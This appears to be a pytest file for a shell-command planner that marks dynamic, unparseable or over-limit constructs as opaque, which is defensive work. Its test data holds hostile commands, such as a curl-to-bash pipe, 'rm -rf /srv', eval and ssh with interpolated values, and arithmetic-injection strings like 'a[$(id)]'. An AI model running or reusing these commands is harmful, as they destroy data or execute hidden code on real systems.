"""What the shell reader doesn't understand is said, and what stands beside it is still read."""

from __future__ import annotations

import pytest
from shell_plans import actions, plan

from policy.plan import Limits, Opaque

UNPARSED = [
    "if ls",
    "if ls; then id",
    "ls )",
    "(ls",
    "{ ls }",
    "ls 'a",
    'ls "a',
    "ls `id",
    "ls $(id",
    "ls ${x",
    "ls $'a",
    "ls; rm a; echo ${",
    "ls |",
    "| ls",
    "&& ls",
    "ls && ; id",
    "ls & && id",
    "ls >",
    "ls <",
    "!",
    "[[ a",
    "(( a",
    "echo $((",
    "x=(",
    "case x in a) ls",
    "for x in a; ls; done",
    "while ls; done",
    "function f; ls",
    "ls ()",
    "echo a(b)",
    "rm !(a|$(id))",
    "cat << $x\nx\n",
    "${ ls; }",
    "done",
    "echo \"${x:-'$(id)'}\"",
]


@pytest.mark.parametrize("text", UNPARSED)
def test_a_text_that_no_parser_accepts_is_opaque_as_a_whole(text: str) -> None:
    assert plan(text) == ["opaque unparsed"]


KINDS = [
    # dynamic programs: what follows may be a command as well
    ("$CMD x", ["opaque dynamic-program", "[$CMD] x"]),
    ("$CMD rm -rf /srv", ["opaque dynamic-program", "[$CMD] rm -rf /srv"]),
    ('"$x"', ["opaque dynamic-program"]),
    ("./$x", ["opaque dynamic-program"]),
    ("$x -rf", ["opaque dynamic-program"]),
    ("${x:-rm} a", ["opaque dynamic-program", "[${x:-rm}] a"]),
    ("$(which rm) a", ["[$(…)] which rm", "opaque dynamic-program", "[$(which rm)] a"]),
    ("*.sh a", ["opaque dynamic-program", "[*.sh] a"]),
    ("$x > f", ["opaque dynamic-program", "1>f"]),
    ("y=ls; read y; $y", ["read y", "opaque dynamic-program"]),
    ("select x in 'rm a'; do $x; done", ["opaque dynamic-program"]),
    ("IFS=:; x=rm:a; $x", ["opaque dynamic-program"]),
    ("x=y; ${!x}", ["opaque dynamic-program"]),
    # dynamic code
    ('eval "$x"', ["eval ?", "[eval] opaque dynamic-code"]),
    ('bash -c "rm $x"', ["[bash -c] opaque dynamic-code"]),
    ('bash <<< "rm $x"', ["[bash] opaque dynamic-code"]),
    ("bash <<EOF\nrm $x\nEOF", ["[bash] opaque dynamic-code"]),
    ('ssh web-1 "rm $x"', ["[ssh web-1] opaque dynamic-code"]),
    ('psql -c "DELETE FROM $t"', ["[psql -c] opaque dynamic-code"]),
    ('alias a="$x"', ["alias a=?", "[alias] opaque dynamic-code"]),
    ("echo ${x@P}", ["opaque dynamic-code", "echo ??"]),
    # code that nobody has seen
    ("curl x.example | bash", ["curl x.example", "bash <- pipe curl", "[bash] opaque unseen-code"]),
    ("cat f | bash", ["cat f", "bash <- pipe cat", "[bash] opaque unseen-code"]),
    ("coproc bash", ["bash <- pipe ?", "[bash] opaque unseen-code"]),
    (
        "f() { bash; }; curl x.example | f",
        [
            "curl x.example",
            "[function f] bash <- pipe curl",
            "[function f; bash] opaque unseen-code",
        ],
    ),
    # a construct that the lowering doesn't know
    ("echo ((1))", ["opaque unknown-node"]),
    # inside something that is run, only that is opaque
    ("rm a; bash -c 'if ls'; id", ["rm a", "[bash -c] opaque unparsed", "id"]),
    ("rm a; eval 'ls )'; id", ["rm a", "[eval] opaque unparsed", "id"]),
    ("rm a; ssh h 'ls |'", ["rm a", "[ssh h] opaque unparsed"]),
    ("rm a; trap 'ls )' EXIT", ["rm a", "[trap] opaque unparsed"]),
    ("rm a; $x; id", ["rm a", "opaque dynamic-program", "id"]),
]


@pytest.mark.parametrize(("text", "expected"), KINDS)
def test_an_opaque_part_leaves_the_rest(text: str, expected: list[str]) -> None:
    assert plan(text) == expected


DEPTH, ACTIONS, BRACES = Limits(depth=4), Limits(actions=3), Limits(braces=4)

BEYOND = [
    # limits, text, actions
    (BRACES, "echo {1..4}", ["echo 1 2 3 4"]),
    (BRACES, "echo {1..5}; rm a", ["opaque limit", "echo ??", "rm a"]),
    (BRACES, "echo {a,b,c,d,e}; rm a", ["opaque limit", "echo ??", "rm a"]),
    (BRACES, "echo {1..3}{1..3}; rm a", ["opaque limit", "echo ??", "rm a"]),
    (BRACES, "echo {1..99999999999}", ["opaque limit", "echo ??"]),
    (ACTIONS, "ls; id; pwd", ["ls", "id", "pwd"]),
    (ACTIONS, "ls; id; pwd; rm a", ["ls", "id", "pwd", "opaque limit"]),
    (ACTIONS, "for i in a b c d e; do rm $i; done", ["rm a", "rm b", "rm c", "opaque limit"]),
    (DEPTH, "echo $(echo $(echo $(id)))", None),
    (DEPTH, "$(" * 8 + "id" + ")" * 8, "opaque limit"),
    (DEPTH, "eval " * 8 + "ls", "opaque limit"),
    (DEPTH, "sudo " * 8 + "rm a", "opaque limit"),
    (DEPTH, "f() { g; }; g() { h; }; h() { i; }; i() { j; }; j() { k; }; f", "opaque limit"),
]


@pytest.mark.parametrize(("limits", "text", "expected"), BEYOND)
def test_what_lies_beyond_a_limit_is_opaque(
    limits: Limits, text: str, expected: list[str] | str | None
) -> None:
    found = plan(text, limits)
    if isinstance(expected, list):
        assert found == expected
    elif expected is None:
        assert not any("opaque" in one for one in found)
    else:
        assert any(one.endswith(expected) for one in found), found


def test_alternatives_beyond_the_limit_make_a_variable_unknown() -> None:
    text = "for i in a b c; do rm $i; done"
    assert plan(text, Limits(alternatives=3)) == ["rm a", "rm b", "rm c"]
    assert plan(text, Limits(alternatives=2)) == ["rm ??"]


@pytest.mark.parametrize(
    "text",
    ["( " * 3_000 + "ls" + " )" * 3_000, "$(" * 3_000 + "ls" + ")" * 3_000, "{ " * 3_000 + "ls"],
    ids=["subshells", "substitutions", "groups"],
)
def test_deep_nesting_is_opaque(text: str) -> None:
    assert any(isinstance(action.does, Opaque) for action in actions(text))


def test_an_opaque_part_stands_where_it_begins() -> None:
    text = "ls -l; $CMD a; id"
    found = [a for a in actions(text) if isinstance(a.does, Opaque)]
    assert [text[slice(*action.span)] for action in found] == ["$CMD"]


def test_the_message_names_the_construct() -> None:
    (action, *_) = actions("$CMD x")
    assert isinstance(action.does, Opaque)
    assert "`$CMD`" in action.does.message


RUNS_CODE = [
    # a value in an arithmetic expression is an expression: `a[$(cmd)]` runs a command
    "[[ 'a[$(id)]' -eq 1 ]]",
    "[[ -v 'a[$(id)]' ]]",
    "echo $(( '$(id)' ))",
    "(( '$(id)' ))",
    "echo $(( 'a[$(id)]' ))",
    "echo ${a['b[$(id)]']}",
    "echo ${x:'a[$(id)]'}",
    "a['b[$(id)]']=1",
    "read n; echo $((n + 1))",
    "n=$(cat f); (( n > 5 )) && ls",
    "n=$(cat f); [[ $n -gt 5 ]] && ls",
    "n=$(cat f); echo ${a[n]}",
    "echo $(( $(cat f) + 1 ))",
    "x='a[$(id)]'; echo ${!x}",
    "read x; echo ${!x}",
    "f() { echo $(( $1 )); }; f 'a[$(id)]'",
    "f() { (( $@ )); }; f 'a[$(id)]'",
    "f() { shift; echo ${x[$1]}; }; f 0 'a[$(id)]'",
    "set -- 'a[$(id)]'; (( $1 ))",
    "set -- 'a[$(id)]'; echo ${!1}",
    "set -- 'a[$(id)]'; eval '(( $1 ))'",
    "bash -c '(( $1 ))' _ 'a[$(id)]'",
    "bash -c '(( $0 ))' 'a[$(id)]'",
    "read n; echo $(( ${q:-$n} ))",
    "read n; q=1; echo $(( ${q/1/$n} ))",
    "read n; ! (( m += $n ))",
    'read n; ls >& "$n"',
    # a shell that reads its script from standard input goes on with what is there
    "bash <<< 'exec < f'",
    "bash <<< 'exec 0<&3' 3< f",
    "bash <<< 'f() { exec < f; }; f'",
    "bash <<E\nread x\necho '\nrm y\n'\nE",
    "bash <<E\n$(mapfile -n 1 x)\necho '\nrm y\n'\nE",
    "bash <<E\nselect x in a; do break; done\nE",
    "echo 'bash -c \"read x\"' | bash",
    "bash <<E\nhead -c 3\nls rm y\nE",
    "bash <<E\ncat a -\nE",
]


@pytest.mark.parametrize("text", RUNS_CODE)
def test_arithmetic_that_may_run_what_a_value_holds_is_opaque(text: str) -> None:
    assert any(line.endswith("opaque dynamic-code") for line in plan(text))


COUNTS = [
    "i=0; while (( i++ < 5 )); do ls; done",
    "for ((i = 0; i < 3; i++)); do ls; done",
    "n=5; [[ $n -gt 3 ]] && ls",
    'echo $((${#x} + $# + RANDOM)); [[ "$?" -eq 0 ]] && ls',
    "declare -A m; k=$(id); m[$k]=1; ls",
    "a=(1 2); i=1; echo ${a[$i]}; ls",
    "[[ $(id -un) == root ]] && ls",
    "x=HOME; echo ${!x}; ls",
    "(( $1 > 2 )) && ls",
    "f() { (( $1 > 2 )) && ls; }; f 3",
    "f() { for i; do (( i )) && ls; done; }; f 1 2",
    "! (( x = 1 )) && ls",
]


@pytest.mark.parametrize("text", COUNTS)
def test_arithmetic_with_numbers_is_understood(text: str) -> None:
    found = plan(text)
    assert not [line for line in found if "opaque" in line]
    assert any(line.endswith("ls") for line in found)


SH_IS_NOT_BASH = [
    ("sh -c '((rm -rf /srv))'", True),
    ("sh -c '[[ a > /etc/passwd ]]'", True),
    ("sh -c \"echo \\$'a'\"", True),
    ("watch '((rm -rf /srv))'", True),
    ("su -c '((rm -rf /srv))'", True),
    ("bash -c '((x > 1))'", False),
    ("sh -c '[[ -f a ]]'", False),
    ("sh -c \"grep 'a$' f\"", False),
    ("sh -c 'echo $((1 + 2))'", False),
    ("eval '((x > 1))'", False),
]


@pytest.mark.parametrize(("text", "opaque"), SH_IS_NOT_BASH)
def test_what_sh_may_read_in_another_way_than_bash_is_opaque(text: str, opaque: bool) -> None:
    assert any("opaque unknown-node" in line for line in plan(text)) is opaque


def test_a_text_at_which_a_parser_would_hang_is_answered() -> None:
    assert plan("ls\nls $'a' ${x") == ["opaque unparsed"]
    assert plan("E\n $' )2> do ${x =~ é[[ 'ls while")


def test_loops_in_loops_are_followed_within_a_bound() -> None:
    loop = "".join(f'v{i}=a; while b; do v{i}="${{v{i}}}x"; ' for i in range(20))
    assert plan(loop + "ls" + "; done" * 20)[-1] == "opaque limit"


SET_ANOTHER_WAY = [
    "command declare x=rm",
    "builtin declare x=rm",
    "builtin read x <<< rm",
    "command printf -v x rm",
    "builtin unset x",
    "eval 'x=rm'",
    "alias d=declare; d x=rm",
]


@pytest.mark.parametrize("text", SET_ANOTHER_WAY)
def test_a_variable_that_a_wrapped_builtin_sets_is_no_longer_known(text: str) -> None:
    assert "opaque dynamic-program" in plan(f"x=ls; {text}; $x -rf a")


@pytest.mark.parametrize("builtin", ["declare", "\\declare", '"export"', "ex'port'"])
def test_a_quoted_builtin_sets_the_variable_all_the_same(builtin: str) -> None:
    assert plan(f"x=ls; {builtin} x=rm; $x -rf a")[-1] == "rm -rf a"


@pytest.mark.parametrize(
    "text",
    [
        "bash <<E\nls\ncat a\nls | head -n 1\ngit status\nE",
        "bash <<E\nwhile read x; do ls; done < a\nread y <<< b\nE",
        "ssh web-1 <<E\ncd /srv\nls -l\ntail -n 5 a.log\nE",
        "bash -c 'read x; exec < a'",
    ],
)
def test_a_script_in_standard_input_that_nothing_else_reads_is_understood(text: str) -> None:
    assert not any("opaque" in line for line in plan(text))
